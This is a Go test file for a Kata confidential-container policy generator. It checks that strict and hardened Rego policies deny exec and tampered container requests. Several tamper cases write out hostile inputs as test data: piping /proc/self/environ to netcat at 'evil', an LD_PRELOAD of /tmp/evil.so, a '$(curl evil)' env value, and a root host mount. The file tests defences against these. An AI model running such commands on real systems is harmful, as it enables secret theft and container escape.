package agentpolicy

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/open-policy-agent/opa/v1/rego"
)

const (
	appImage  = "ghcr.io/hospital/deid@sha256:1111111111111111111111111111111111111111111111111111111111111111"
	sideImage = "ghcr.io/trustgate/tls-sidecar@sha256:2222222222222222222222222222222222222222222222222222222222222222"
	sealedRef = "sealed.eyJhbGciOiJFUzI1NiIsImtpZCI6ImsifQ.eyJ2IjoxfQ.c2ln"
)

func testPod() *Pod {
	return &Pod{
		SandboxName: "^deid-[a-z0-9]+-[a-z0-9]+$",
		Namespace:   "hospital",
		Containers: []Container{
			{Name: "deid", Image: appImage, Args: []string{"/usr/bin/deid", "serve", "--port=8080"},
				Env: []string{"AZURE_CONN=" + sealedRef, "MODE=strict"}, EnvRegex: []string{`^POD_IP=[0-9.]+$`},
				Mounts:          []Mount{{Destination: "/etc/deid/tls", ReadOnly: true}, {Destination: "/tmp", ReadOnly: false}},
				NoNewPrivileges: true, UID: 1000, ReadOnlyRootFS: true},
			{Name: "tls-sidecar", Image: sideImage, Args: []string{"/tls-sidecar", "--upstream=127.0.0.1:8080"},
				UID: -1},
		},
	}
}

func eval(t *testing.T, policy, query string, input map[string]any) bool {
	t.Helper()
	// Round-trip through JSON so the input looks exactly like what the agent sends.
	raw, _ := json.Marshal(input)
	var in any
	json.Unmarshal(raw, &in)
	r := rego.New(rego.Query("data.agent_policy."+query), rego.Module("policy.rego", policy), rego.Input(in))
	rs, err := r.Eval(context.Background())
	if err != nil {
		t.Fatalf("eval %s: %v", query, err)
	}
	if len(rs) != 1 || len(rs[0].Expressions) != 1 {
		t.Fatalf("eval %s: no result", query)
	}
	b, ok := rs[0].Expressions[0].Value.(bool)
	if !ok {
		t.Fatalf("eval %s: non-bool %v", query, rs[0].Expressions[0].Value)
	}
	return b
}

func defaultMountsInput() []any {
	sf := "/run/kata-containers/shared/containers/" + strings.Repeat("a", 64) + "-" + strings.Repeat("b", 16) + "-"
	return []any{
		map[string]any{"destination": "/proc", "source": "proc", "type_": "proc", "options": []string{"nosuid", "noexec", "nodev"}},
		map[string]any{"destination": "/dev", "source": "tmpfs", "type_": "tmpfs", "options": []string{"nosuid"}},
		map[string]any{"destination": "/dev/shm", "source": "/run/kata-containers/sandbox/shm", "type_": "bind", "options": []string{"rbind"}},
		map[string]any{"destination": "/sys", "source": "sysfs", "type_": "sysfs", "options": []string{"ro"}},
		map[string]any{"destination": "/etc/hosts", "source": sf + "hosts", "type_": "bind", "options": []string{"rbind", "rprivate", "rw"}},
		map[string]any{"destination": "/etc/resolv.conf", "source": sf + "resolv.conf", "type_": "bind", "options": []string{"rbind", "rprivate", "rw"}},
	}
}

// request builds a CreateContainerRequest input shaped as the Kata agent
// passes it to the policy engine (kata-containers genpolicy rules.rego).
func request(c Container, ctype string, extraMounts ...any) map[string]any {
	ann := map[string]any{
		"io.kubernetes.cri.container-type":      ctype,
		"io.kubernetes.cri.sandbox-name":        "deid-7d9c8b6f5-x2k4q",
		"io.kubernetes.cri.sandbox-namespace":   "hospital",
		"io.kubernetes.cri.sandbox-id":          strings.Repeat("c", 64),
		"io.katacontainers.pkg.oci.bundle_path": "/run/containerd/io.containerd.runtime.v2.task/k8s.io/x",
	}
	image := c.Image
	if ctype == "sandbox" {
		image = "registry.k8s.io/pause:3.9"
	} else {
		ann["io.kubernetes.cri.container-name"] = c.Name
	}
	ann["io.kubernetes.cri.image-name"] = image
	env := append([]string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOSTNAME=deid-7d9c8b6f5-x2k4q",
		"KUBERNETES_SERVICE_HOST=10.0.0.1", "KUBERNETES_SERVICE_PORT=443", "KUBERNETES_PORT=tcp://10.0.0.1:443"}, c.Env...)
	mounts := defaultMountsInput()
	for _, m := range c.Mounts {
		opts := []string{"rbind", "rprivate", "rw"}
		if m.ReadOnly {
			opts = []string{"rbind", "rprivate", "ro"}
		}
		mounts = append(mounts, map[string]any{"destination": m.Destination, "type_": "bind", "options": opts,
			"source": "/run/kata-containers/shared/containers/" + strings.Repeat("a", 64) + "-" + strings.Repeat("d", 16) + "-vol"})
	}
	mounts = append(mounts, extraMounts...)
	uid := c.UID
	if uid < 0 {
		uid = 0
	}
	caps := []string{"CAP_CHOWN", "CAP_KILL", "CAP_NET_BIND_SERVICE"}
	storages := []any{}
	if ctype == "container" {
		storages = append(storages, map[string]any{"driver": "image_guest_pull", "driver_options": []string{}, "source": image,
			"fstype": "overlay", "options": []string{}, "mount_point": "/run/kata-containers/" + strings.Repeat("e", 64) + "/rootfs", "fs_group": nil})
	}
	return map[string]any{
		"container_id":  strings.Repeat("f", 64),
		"exec_id":       strings.Repeat("f", 64),
		"sandbox_pidns": false,
		"shared_mounts": []any{},
		"string_user":   nil,
		"devices":       []any{},
		"storages":      storages,
		"OCI": map[string]any{
			"Version": "1.1.0",
			"Process": map[string]any{
				"Terminal": false,
				"User":     map[string]any{"UID": uid, "GID": 0, "AdditionalGids": []int{0}, "Username": ""},
				"Args":     c.Args,
				"Env":      env,
				"Cwd":      "/",
				"Capabilities": map[string]any{"Ambient": []string{}, "Bounding": caps, "Effective": caps,
					"Inheritable": []string{}, "Permitted": caps},
				"NoNewPrivileges": c.NoNewPrivileges,
			},
			"Root":        map[string]any{"Path": "/run/kata-containers/shared/containers/x/rootfs", "Readonly": c.ReadOnlyRootFS},
			"Mounts":      mounts,
			"Hooks":       nil,
			"Annotations": ann,
			"Linux": map[string]any{"Namespaces": []any{map[string]any{"Type": "ipc", "Path": ""}},
				"Resources": map[string]any{"Devices": []any{}}},
		},
	}
}

func TestHardenedDenies(t *testing.T) {
	for _, allowLogs := range []bool{false, true} {
		pol, err := Generate(Options{Mode: Hardened, AllowLogs: allowLogs}, nil)
		if err != nil {
			t.Fatal(err)
		}
		if eval(t, pol, "ExecProcessRequest", map[string]any{"process": map[string]any{"Args": []string{"sh"}}}) {
			t.Error("exec allowed")
		}
		if eval(t, pol, "SetPolicyRequest", map[string]any{"policy": "package agent_policy"}) {
			t.Error("set policy allowed")
		}
		if got := eval(t, pol, "ReadStreamRequest", map[string]any{}); got != allowLogs {
			t.Errorf("allowLogs=%v: ReadStream=%v", allowLogs, got)
		}
		if !eval(t, pol, "CreateContainerRequest", request(testPod().Containers[0], "container")) {
			t.Error("hardened mode must allow create container")
		}
	}
}

func TestStrict(t *testing.T) {
	pod := testPod()
	pol, err := Generate(Options{Mode: Strict}, pod)
	if err != nil {
		t.Fatal(err)
	}
	for _, q := range []string{"ExecProcessRequest", "ReadStreamRequest", "SetPolicyRequest"} {
		if eval(t, pol, q, map[string]any{"process": map[string]any{"Args": []string{"cat", "/proc/1/environ"}}}) {
			t.Errorf("%s allowed", q)
		}
	}
	if !eval(t, pol, "CreateContainerRequest", request(Container{Args: []string{"/pause"}}, "sandbox")) {
		t.Error("pause container denied")
	}
	for _, c := range pod.Containers {
		if !eval(t, pol, "CreateContainerRequest", request(c, "container")) {
			t.Errorf("container %s denied", c.Name)
		}
	}
	withDownward := pod.Containers[0]
	withDownward.Env = append(append([]string{}, withDownward.Env...), "POD_IP=10.1.2.3")
	if !eval(t, pol, "CreateContainerRequest", request(withDownward, "container")) {
		t.Error("downward API env denied")
	}
	app := pod.Containers[0]
	tamper := []struct {
		name string
		req  func() map[string]any
	}{
		{"other image digest", func() map[string]any {
			c := app
			c.Image = strings.Replace(appImage, "1111", "9999", 1)
			return request(c, "container")
		}},
		{"same digest, other registry", func() map[string]any {
			c := app
			c.Image = strings.Replace(appImage, "ghcr.io/hospital", "evil.io/x", 1)
			return request(c, "container")
		}},
		{"other command", func() map[string]any {
			c := app
			c.Args = []string{"/bin/sh", "-c", "cat /proc/self/environ | nc evil 80"}
			return request(c, "container")
		}},
		{"extra arg", func() map[string]any {
			c := app
			c.Args = append(append([]string{}, app.Args...), "--debug")
			return request(c, "container")
		}},
		{"added env var", func() map[string]any {
			c := app
			c.Env = append(append([]string{}, app.Env...), "LD_PRELOAD=/tmp/evil.so")
			return request(c, "container")
		}},
		{"changed sealed reference", func() map[string]any {
			c := app
			c.Env = []string{"AZURE_CONN=plaintext", "MODE=strict"}
			return request(c, "container")
		}},
		{"added host mount", func() map[string]any {
			return request(app, "container", map[string]any{"destination": "/host", "source": "/", "type_": "bind", "options": []string{"rbind", "rw"}})
		}},
		{"read-only mount made writable", func() map[string]any {
			c := app
			c.Mounts = []Mount{{Destination: "/etc/deid/tls", ReadOnly: false}, {Destination: "/tmp"}}
			return request(c, "container")
		}},
		{"privileged caps", func() map[string]any {
			r := request(app, "container")
			proc := r["OCI"].(map[string]any)["Process"].(map[string]any)
			proc["Capabilities"].(map[string]any)["Bounding"] = []string{"CAP_SYS_ADMIN"}
			return r
		}},
		{"no-new-privileges dropped", func() map[string]any {
			c := app
			c.NoNewPrivileges = false
			return request(c, "container")
		}},
		{"downward env with other value shape", func() map[string]any {
			c := app
			c.Env = append(append([]string{}, app.Env...), "POD_IP=$(curl evil)")
			return request(c, "container")
		}},
		{"other uid", func() map[string]any {
			c := app
			c.UID = 0
			return request(c, "container")
		}},
		{"unknown container name", func() map[string]any {
			c := app
			c.Name = "debugger"
			return request(c, "container")
		}},
		{"other pod name", func() map[string]any {
			r := request(app, "container")
			r["OCI"].(map[string]any)["Annotations"].(map[string]any)["io.kubernetes.cri.sandbox-name"] = "attacker-pod"
			return r
		}},
		{"other namespace", func() map[string]any {
			r := request(app, "container")
			r["OCI"].(map[string]any)["Annotations"].(map[string]any)["io.kubernetes.cri.sandbox-namespace"] = "default"
			return r
		}},
		{"guest pull of another image", func() map[string]any {
			r := request(app, "container")
			r["storages"].([]any)[0].(map[string]any)["source"] = "docker.io/library/busybox:latest"
			return r
		}},
		{"hooks", func() map[string]any {
			r := request(app, "container")
			r["OCI"].(map[string]any)["Hooks"] = map[string]any{"Prestart": []any{map[string]any{"Path": "/bin/sh"}}}
			return r
		}},
		{"pause with a shell", func() map[string]any {
			return request(Container{Args: []string{"/bin/sh"}}, "sandbox")
		}},
	}
	for _, tt := range tamper {
		t.Run(tt.name, func(t *testing.T) {
			if eval(t, pol, "CreateContainerRequest", tt.req()) {
				t.Fatal("allowed")
			}
		})
	}
}

func TestStrictRefusesUnpinnable(t *testing.T) {
	pod := testPod()
	pod.Containers[0].Image = "ghcr.io/hospital/deid:1.0"
	if _, err := Generate(Options{Mode: Strict}, pod); err == nil || !strings.Contains(err.Error(), "digest") {
		t.Fatalf("tag accepted: %v", err)
	}
	pod = testPod()
	pod.Containers[1].Args = nil
	if _, err := Generate(Options{Mode: Strict}, pod); err == nil || !strings.Contains(err.Error(), "command") {
		t.Fatalf("missing command accepted: %v", err)
	}
	if _, err := Generate(Options{Mode: "lax"}, pod); err == nil {
		t.Fatal("unknown mode accepted")
	}
}

func TestDeterministic(t *testing.T) {
	a, _ := Generate(Options{Mode: Strict}, testPod())
	b, _ := Generate(Options{Mode: Strict}, testPod())
	if a != b {
		t.Fatal("not deterministic")
	}
}
